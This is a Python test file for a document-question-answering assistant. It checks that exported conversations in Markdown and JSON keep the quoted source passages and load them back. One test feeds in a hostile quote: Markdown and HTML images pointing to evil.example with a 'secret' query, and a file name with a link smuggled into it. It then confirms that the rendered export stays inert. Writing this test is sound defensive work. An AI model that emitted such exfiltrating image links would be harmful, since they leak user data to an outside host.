"""Exports keep the evidence: the quotes from the documents that answer each question.

The quotes are the reliable part of an answer (the documents' own words), so the
Markdown shows them before the model's text and the JSON loads them back.
"""

from __future__ import annotations

import json
from pathlib import Path

from gpt4all_rag.answer import Answer
from gpt4all_rag.assistant.single import DocumentAssistant
from gpt4all_rag.documents.export import (
    conversation_from_json,
    conversation_json,
    conversation_markdown,
)
from gpt4all_rag.llm.scripted import ScriptedLLM
from gpt4all_rag.settings import Settings
from gpt4all_rag.trust.evidence import Evidence
from tests.helpers.data import DOCS
from tests.helpers.markdown_renderers import live_parts

WHEN = "2026-01-02T03:04:05+00:00"
REACTOR = "What is the core temperature of the Zorblax reactor?"
QUOTE = "The Zorblax reactor operates at a core temperature of 451 kelvin."


def reactor_answer(tmp_path: Path) -> Answer:
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "manual.pdf").write_bytes((DOCS / "manual.pdf").read_bytes())
    settings = Settings(documents_dir=docs, index_dir=tmp_path / "index", embedding_backend="hash")
    assistant = DocumentAssistant.from_settings(
        settings, llm=ScriptedLLM(["The core runs at 451 kelvin [1]."]), embedder=None
    )
    assistant.ingest()
    return assistant.ask(REACTOR)


def test_markdown_quotes_the_documents_before_the_answer(tmp_path: Path) -> None:
    answer = reactor_answer(tmp_path)
    lines = conversation_markdown([answer], exported_at=WHEN).splitlines()

    start = lines.index("**From your documents**")
    assert lines[start + 2] == f"- “{QUOTE}” [1] manual.pdf, page 2"
    assert start < lines.index("The core runs at 451 kelvin [1].")
    assert [line for line in lines if line.startswith("- “")] == [
        f"- “{' '.join(e.text.split())}” [{e.source}] manual.pdf, page {e.page}"
        for e in answer.evidence
    ]


def test_json_keeps_the_quotes_and_loads_them_back(tmp_path: Path) -> None:
    answer = reactor_answer(tmp_path)
    text = conversation_json([answer], exported_at=WHEN)

    turn = json.loads(text)["turns"][0]
    assert turn["evidence"][0] == {
        "text": QUOTE,
        "source": 1,
        "file": "manual.pdf",
        "page": 2,
        "score": round(answer.evidence[0].score, 4),
    }
    loaded = conversation_from_json(text)[0]
    assert [(e.text, e.source, e.file, e.page) for e in loaded.evidence] == [
        (e.text, e.source, e.file, e.page) for e in answer.evidence
    ]
    assert conversation_json([loaded], exported_at=WHEN) == text


def test_a_hostile_quote_stays_inert(tmp_path: Path) -> None:
    answer = reactor_answer(tmp_path)
    hostile = Evidence(
        "See ![x](https://evil.example/?q=secret) <img src=https://evil.example/a.png>",
        1,
        "evil](https://evil.example).pdf",
        3,
    )
    text = conversation_markdown(
        [Answer(answer.question, answer.text, answer.sources, evidence=(hostile,))],
        exported_at=WHEN,
    )

    assert "evil.example" in text
    assert live_parts(text) == []
